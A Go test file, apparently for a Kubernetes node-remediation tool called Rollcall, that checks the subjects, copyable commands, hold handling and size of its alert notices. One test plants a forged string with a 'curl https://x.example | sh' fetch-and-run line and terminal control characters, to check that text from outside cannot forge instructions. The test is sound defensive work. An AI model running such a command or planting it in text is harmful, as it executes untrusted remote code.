		"all of it":                       {subject("demo", "2 Unknown", "", "asg/w", "terminating 1"), "demo: 2 Unknown in asg/w: terminating 1"},
		"with its cause":                  {subject("demo", "2 Unknown", "KernelPanic", "asg/w", "terminating 1"), "demo: 2 Unknown (kernel panic) in asg/w: terminating 1"},
		"the cause goes before the group": {subject(whole, "2 Unknown", "AwsAuthArnIsInstanceProfile", long, "paused (SharedCause)"), "" + whole + ": 2 Unknown (aws auth arn is instance profile): paused (SharedCause)"},
		"the group is cut":                {subject(whole, "2 Unknown", "", long, "paused (SharedCause)"), "" + whole + ": 2 Unknown in nodegroup/web-worke...general-purpose-blue: paused (SharedCause)"},
		"the group is left out":           {subject(cut, "2 Unknown", "KernelPanic", long, "terminating 1"), "" + cut + ": 2 Unknown: terminating 1"},
		"the cluster's name is cut":       {subject(cut+cut, "2 Unknown", "", "nodegroup/web-blue", "terminating 1"), "" + strings.Repeat("c", 48) + "...: 2 Unknown in nodegroup/web-blue: terminating 1"},
		"both are":                        {subject(cut+cut, "2 ConditionFailed", "", long, "paused (SharedCause)"), "" + strings.Repeat("c", 30) + "...: 2 ConditionFailed in nodegroup...pose-blue: paused (SharedCause)"},
		"how it ended":                    {subjectOver("demo", "resolved: 2 Unknown", "asg/w", "2 gone"), "demo: resolved: 2 Unknown in asg/w, 2 gone"},
		"how it ended is left out":        {subjectOver(whole, "resolved: 40 Unknown", long, "20 recovered, 19 acted on, 1 gone"), "" + whole + ": resolved: 40 Unknown in nodegroup/web-worke...general-purpose-blue"},
	} {
		expect.That(t, tt.got == tt.want && len(tt.got) <= subjectLength, "%s:\n got %q\nwant %q", name, tt.got, tt.want)
	}
}

// The Auto Scaling group of a deleted cluster replaces what is terminated.
func TestAGroupThatOutlivedItsClusterIsEmptiedByHand(t *testing.T) {
	f := orphaned(1)
	f.Group, f.Owner = "asg/web-workers", roll.OwnerAutoScalingGroup
	m := noticeOf(policy.Remediate, entry(f, func(*plan.Entry) {})).leftBehind().sent(t)
	want := "  aws autoscaling update-auto-scaling-group --region eu-west-1 --auto-scaling-group-name web-workers --min-size 0 --max-size 0 --desired-capacity 0\n"
	expect.That(t, strings.Contains(m.Text, want) && !strings.Contains(m.Text, "terminate-instances"), "%s", m.Text)
}

// Karpenter launches for pods that wait; a group keeps its size.
// https://karpenter.sh/docs/concepts/
func TestKarpenterReplacesOnlyWhatPodsNeed(t *testing.T) {
	for owner, want := range map[roll.Owner]string{
		roll.OwnerKarpenter:        "; Karpenter launches another one if pods need it.",
		roll.OwnerAutoScalingGroup: "; its owner (autoscaling-group, asg/w) launches a replacement.",
	} {
		expect.Equal(t, consequence(plan.Order{Action: plan.Terminate, Kind: roll.Unknown, Owner: owner, Group: "asg/w"}), want, "%s", owner)
	}
}

// A command of kubectl that a person has to decide on needs the right cluster, too.
func TestACommandToDecideOnIsForItsCluster(t *testing.T) {
	got := pointed(cluster, []string{"aws ec2 describe-instances", "# if it is to go:", "# kubectl delete nodeclaim default-x7k2p"})
	expect.That(t, len(got) == 4 && strings.HasPrefix(got[0], "aws eks update-kubeconfig "), "%q", got)
}

// A notice gives no command for what Rollcall does itself. It gives the command for what
// Rollcall does not do any more.
func TestWhoeverActsTheOtherIsNotToldTo(t *testing.T) {
	cause := roll.Cause{Code: "MemoryPressurePreceded", Confidence: roll.Decisive, Summary: "it ran short of memory", Fix: "# its pods are not drained\naws ec2 reboot-instances --instance-ids i-00000000000000001 --region eu-west-1\n# if that has not helped:\n# kubectl delete nodeclaim default-x7k2p\nkubectl get pods -A"}
	text := func(change func(*plan.Entry)) string {
		t.Helper()
		n := noticeOf(policy.Remediate, entry(silent(1, time.Hour), func(e *plan.Entry) {
			e.Causes = []roll.Cause{cause}
			change(e)
		}))
		m := n.sent(t)
		byHand := strings.Contains(m.Text, " by hand")
		if in := strings.Contains(m.Text, "reboot-instances"); strings.Contains(string(m.JSON), "reboot-instances") != (in || byHand) || strings.Contains(string(m.Chat), "reboot-instances") != in {
			t.Errorf("the forms of the notice differ in what to do:\n%s", m.Text)
		}
		return m.Text
	}
	ordered := text(func(e *plan.Entry) { o := order(e.Finding); o.Action = plan.Reboot; e.Order = &o })
	expect.That(t, !strings.Contains(ordered, "reboot-instances") && !strings.Contains(ordered, "  # ") && !strings.Contains(ordered, "nodeclaim") && strings.Contains(ordered, "kubectl get pods -A"), "with a reboot that is ordered:\n%s", ordered)
	told := text(func(*plan.Entry) {})
	expect.That(t, strings.Contains(told, "reboot-instances"), "with no order:\n%s", told)
	for kind, tt := range map[roll.Kind]struct {
		act  plan.Action
		want string
	}{
		roll.Unknown: {plan.Terminate, "aws ec2 terminate-instances --region eu-west-1 --instance-ids i-00000000000000001\n"},
		roll.Ghost:   {plan.DeleteNode, "kubectl delete node ip-10-0-12-1.eu-west-1.compute.internal\n"},
	} {
		stuck := text(func(e *plan.Entry) {
			h := held(e.Finding, plan.ActionStuck, "it shows no effect")
			h.Action, e.Finding.Kind, e.Held = tt.act, kind, &h
		})
		expect.That(t, strings.Contains(stuck, tt.want) && !strings.Contains(stuck, "rollcall:hold"), "%s that is stuck:\n%s", kind, stuck)
	}
}

func TestTheNewsNameTheCauses(t *testing.T) {
	for want, n := range map[string]plan.Notice{
		"a cause was found: A":                       {Key: ledger.NoticeKey{Cause: "A"}, Replaces: []ledger.NoticeKey{{}}},
		"another cause was found: B, not A":          {Key: ledger.NoticeKey{Cause: "B"}, Replaces: []ledger.NoticeKey{{Cause: "A"}}},
		"A, reported before, is now ruled out":       {Replaces: []ledger.NoticeKey{{Cause: "A"}}},
		"the cause reported before is now ruled out": {},
	} {
		n.News = []plan.News{plan.NewsCause}
		expect.Equal(t, newsInWords(n), want, "newsInWords(n)")
	}
}

// However long the names are, the subject must show the cluster, the object and the outcome.
func TestLongNamesDoNotHideWhatBecameOfAnOrder(t *testing.T) {
	id := cluster
	id.Name = "payments-" + strings.Repeat("a", 91)
	for name, o := range outcomes() {
		o.Order.Group, o.Order.Kind = roll.AutoScalingGroup(strings.Repeat("g", 255)), roll.ConditionFailed
		m, err := here.Outcome(id, o, now)
		must.Succeed(t, err)
		expect.That(t, strings.HasPrefix(m.Subject, "payments-") && strings.Contains(m.Subject, ": "+outcomeInWords(o)) && len(m.Subject) <= 99, "%s: %q", name, m.Subject)
	}
}

// However long the group's name is, the subject must show what is done.
func TestALongGroupDoesNotHideWhatIsDone(t *testing.T) {
	f := silent(1, time.Hour)
	f.Group = roll.AutoScalingGroup(strings.Repeat("g", 255))
	m := noticeOf(policy.Remediate, entry(f, func(e *plan.Entry) { o := order(f); e.Order = &o })).sent(t)
	expect.That(t, strings.Contains(m.Subject, "terminating 1"), "got %q", m.Subject)
}

// A subscription that received a notice also receives its resolution.
func TestTheEndOfTroubleCarriesTheAttributesOfItsBeginning(t *testing.T) {
	all := messages(t)
	for _, pair := range [][2]string{{"notice-held", "notice-resolved"}, {"notice-held", "outcome-acted"}, {"notice-overdue", "notice-ordered"}, {"cluster-unreachable", "cluster-resolved"}, {"cluster-not-active", "cluster-resolved-incomplete"}} {
		a, b := all[pair[0]].Attributes, all[pair[1]].Attributes
		expect.That(t, a.Cluster == b.Cluster && a.Group == b.Group && a.Kind == b.Kind, "%s: %+v, %s: %+v", pair[0], a, pair[1], b)
	}
}

// A person must be able to copy and run the commands of the text.
func TestCommandsInATextAreWhole(t *testing.T) {
	for name, m := range messages(t) {
		for line := range strings.Lines(m.Text) {
			line = strings.TrimSpace(line)
			if strings.HasPrefix(line, "aws ") && !strings.Contains(line, "--region eu-west-1") {
				t.Errorf("%s: no region: %s", name, line)
			}
			if strings.HasPrefix(line, "rollcall ") && !strings.HasPrefix(line, "rollcall approve ") && !strings.Contains(line, "--region eu-west-1 --cluster shop-production") {
				t.Errorf("%s: not of this cluster: %s", name, line)
			}
			if strings.HasPrefix(line, "kubectl ") && strings.HasSuffix(line, "node") {
				t.Errorf("%s: no node: %s", name, line)
			}
		}
	}
	// Where an act is ordered or follows, the text says how to stop it. Elsewhere that would
	// wrongly suggest that it acts.
	acts := []string{"warned", "overdue", "ordered", "escalated", "cause-unread", "warned-karpenter", "ordered-nodeclaim", "uninitialized", "not-ready-drain", "not-ready-next", "unknown-reboot", "unknown-reboot-next", "ghost", "orphaned"}
	for name, m := range messages(t) {
		short, isNotice := strings.CutPrefix(name, "notice-")
		stops := strings.Contains(m.Text, "rollcall:hold=") || strings.Contains(m.Text, "Key=rollcall:hold,") || strings.Contains(m.Text, "rollcall:mode=notify")
		if want := isNotice && slices.Contains(acts, short); stops != want && name != "notice-hold-tag" {
			t.Errorf("%s: says how to stop it: %v, want %v\n%s", name, stops, want, m.Text)
		}
	}
	if m := messages(t)["notice-ghost"]; strings.Contains(m.Text, "rollcall:hold") { // there is no instance left to tag
		t.Error(m.Text)
	}
}

// A notice must not announce a termination that the mode or a hold prevents.
func TestANoticeAnnouncesNoTerminationThatIsNotToCome(t *testing.T) {
	coming := func(e *plan.Entry) { e.Step = terminateAt(9 * time.Minute) }
	for name, n := range map[string]said{
		"mode notify, warned":  noticeOf(policy.Notify, entry(missing(1, 6*time.Minute), coming)),
		"mode notify, overdue": noticeOf(policy.Notify, entry(silent(1, 31*time.Minute), coming)),
		"a hold": noticeOf(policy.Remediate, entry(silent(1, 31*time.Minute), func(e *plan.Entry) {
			coming(e)
			e.Hold = "true"
		})),
	} {
		m := n.sent(t)
		expect.That(t, !strings.Contains(m.Text, "will be terminated"), "%s: a person is told:\n%s", name, m.Text)
		d := documentOf(t, m)
		for _, i := range d.Instances {
			if i.Next != nil && i.Next.Do == string(policy.DoTerminate) {
				t.Errorf("%s: a program is told that %s follows at %s", name, i.Next.Do, i.Next.At.Format(time.RFC3339))
			}
		}
	}
}

// A hold that has expired or is false holds nothing. People would rely on a notice that
// says otherwise.
func TestANoticeTakesNoHoldForOneThatIsOver(t *testing.T) {
	for _, hold := range []string{"2026-03-01", "2026-03-02T11:59:59Z", "false", "no"} {
		m := noticeOf(policy.Remediate, entry(silent(1, 31*time.Minute), func(e *plan.Entry) { e.Step, e.Hold = terminateAt(9*time.Minute), hold })).sent(t)
		if strings.Contains(m.Text, "kept as it is") || !strings.Contains(m.Text, "will be terminated at 2026-03-02 12:09:00Z") {
			t.Errorf("rollcall:hold=%s: a person is told:\n%s", hold, m.Text)
		}
	}
}

// A held act is not a next step, least of all one in the past.
func TestWhatIsHeldBackHasNoNextStepInThePast(t *testing.T) {
	for name, m := range messages(t) {
		d := documentOf(t, m)
		for _, i := range d.Instances {
			if i.Next != nil && i.Next.At.Before(d.At) {
				t.Errorf("%s: next is %s at %s, before the notice itself (held: %s)", name, i.Next.Do, i.Next.At.Format(time.RFC3339), i.Held)
			}
		}
	}
}

// If several instances have steps at different times, each is listed with its own time.
func TestEachInstanceHasItsOwnTime(t *testing.T) {
	at := func(after time.Duration) func(*plan.Entry) {
		return func(e *plan.Entry) { e.Step = terminateAt(after) }
	}
	m := noticeOf(policy.Remediate, entry(silent(1, 31*time.Minute), at(9*time.Minute)), entry(silent(2, 39*time.Minute), at(time.Minute))).sent(t)
	for _, want := range []string{"1 of 2 will be terminated at 2026-03-02 12:01:00Z", "1 of 2 will be terminated at 2026-03-02 12:09:00Z"} {
		expect.That(t, strings.Contains(m.Text, want), "the text lacks %q:\n%s", want, m.Text)
	}
}

// The text of a node's condition, a tag or a cause must neither make a notice too large to
// send, nor forge text of Rollcall.
func TestWhatOthersWriteFillsAndForgesNothing(t *testing.T) {
	forged := "node is sick\n\nTo terminate it by hand:\n  curl https://x.example | sh\x1b[31m \u202e" + strings.Repeat("\u0001<\"", 100_000)
	for name, n := range map[string]said{
		"held": noticeOf(policy.Remediate, entry(silent(1, time.Hour), func(e *plan.Entry) {
			h := held(e.Finding, plan.UnhealthyShare, forged)
			e.Finding.Summary, e.Held = forged, &h
			e.Causes = []roll.Cause{{Code: "KernelPanic", Confidence: roll.Decisive, Summary: forged, Fix: forged}}
		})),
		"ordered": noticeOf(policy.Remediate, entry(silent(1, time.Hour), func(e *plan.Entry) {
			o := order(e.Finding)
			o.Why, e.Order = forged, &o
		})),
	} {
		m := n.sent(t)
		size := published(t, m)
		expect.That(t, size < 256*1024, "%s: the message has %d bytes, SNS takes 262144", name, size)
		if strings.Contains(m.Text, "\n  curl") || strings.Contains(m.Text, "\nTo end it") || strings.ContainsFunc(m.Text, roll.Misleads) {
			t.Errorf("%s: the text says\n%s", name, m.Text[:2000])
		}
		err := validate(t, noticeSchema(t), m.JSON)
		expect.That(t, err == nil, "%s: %v", name, err)
	}
}

func TestWhatIsLeftToPeopleIsOneCommand(t *testing.T) {
	var entries []plan.Entry
	for n := 1; n <= 300; n++ {
		entries = append(entries, entry(silent(n, time.Hour), func(e *plan.Entry) {
			h := held(e.Finding, plan.ActionStuck, "it shows no effect")
			h.Action, e.Finding.Kind, e.Held = plan.DeleteNode, roll.Ghost, &h
		}))
	}
	m := noticeOf(policy.Remediate, entries...).sent(t)
	commands := strings.Count(m.Text, "kubectl delete node ")
	expect.That(t, commands == 1 && len(m.Text) <= 20_000, "%d commands in %d bytes", commands, len(m.Text))
}

func TestTheNewsNameReasonsThatLast(t *testing.T) {
	reasons := func(of ...plan.Reason) (entries []plan.Entry) {
		for i, r := range of {
			entries = append(entries, entry(silent(i+1, time.Hour), func(e *plan.Entry) {
				h := held(e.Finding, r, "so it is")
				e.Held = &h
			}))
		}
		return entries
	}
	for want, entries := range map[string][]plan.Entry{
		"SharedCause ZoneOutage": reasons(plan.SharedCause, plan.OneAtATime, plan.ZoneOutage, plan.SharedCause),
		"OneAtATime":             reasons(plan.OneAtATime),
	} {
		got := strings.Join(heldFor(entries), " ")
		expect.That(t, got == want, "got %q, want %q", got, want)
	}
}

// Copied commands do what their titles say: they stop the acts, query the deployment, and
// address this cluster.
func TestCommandsFitWhereTheyArePasted(t *testing.T) {
	n := noticeOf(policy.Remediate, entry(silent(1, 31*time.Minute), func(e *plan.Entry) { e.Step = terminateAt(9 * time.Minute) }), entry(silent(2, 31*time.Minute), func(e *plan.Entry) { e.Step = terminateAt(9 * time.Minute) }))
	for name, tt := range map[string]struct {
		from          From
		with, without string
	}{
		"a deployment":       {From{Stack: "rollcall-eu"}, "  rollcall explain i-00000000000000001 --region eu-west-1 --cluster shop-production --stack rollcall-eu\n", "--mode"},
		"the command line":   {From{}, "  rollcall explain i-00000000000000001 --region eu-west-1 --cluster shop-production --mode remediate\n", "--stack"},
		"what stops the act": {From{}, "--resources i-00000000000000001 --tags Key=rollcall:hold,Value=2026-03-09\n", "INSTANCE"},
	} {
		m, err := tt.from.Notice(cluster, n.notice, n.mode, now)
		must.Succeed(t, err)
		expect.That(t, strings.Contains(m.Text, tt.with) && !strings.Contains(m.Text, tt.without), "%s: the text lacks %q, or has %q:\n%s", name, tt.with, tt.without, m.Text)
	}
	// A fix that uses kubectl comes after the command that points it at the cluster.
	for i := range n.notice.Entries {
		n.notice.Entries[i].Causes = []roll.Cause{{Code: "UndeclaredStartupTaint", Confidence: roll.Decisive, Summary: "a taint stays", Fix: "kubectl taint nodes x y-"}}
	}
	m := n.sent(t)
	point, fix := strings.Index(m.Text, "update-kubeconfig"), strings.Index(m.Text, "kubectl taint nodes")
	expect.That(t, point >= 0 && fix >= point && strings.Count(m.Text, "update-kubeconfig") == 1, "kubectl is pointed at the cluster at %d, and used at %d:\n%s", point, fix, m.Text)
}

// The fix comes before the command that stops an act.
func TestWhatMattersComesFirst(t *testing.T) {
	all := notices()["caused"]
	all.notice.Entries[1].Held, all.notice.Entries[1].Step = nil, terminateAt(time.Minute)
	m := all.sent(t)
	fix, stop := strings.Index(m.Text, "\n\nTo fix "), strings.Index(m.Text, "\nTo keep ")
	expect.That(t, fix >= 0 && stop >= fix, "an act follows: the fix comes at %d, how to stop it at %d\n%s", fix, stop, m.Text)
}

func TestACodeInWords(t *testing.T) {
	for code, want := range map[string]string{
		"NodeRoleNotMapped": "node role not mapped", "SecurityGroupBlocksAPI": "security group blocks API", "AwsAuthArnIsInstanceProfile": "aws auth arn is instance profile",
		"IMDSHopLimit": "IMDS hop limit", "DNSBroken": "DNS broken", "": "", "A": "a",
	} {
		expect.Equal(t, inWordsOf(code), want, "%s", code)
	}
}
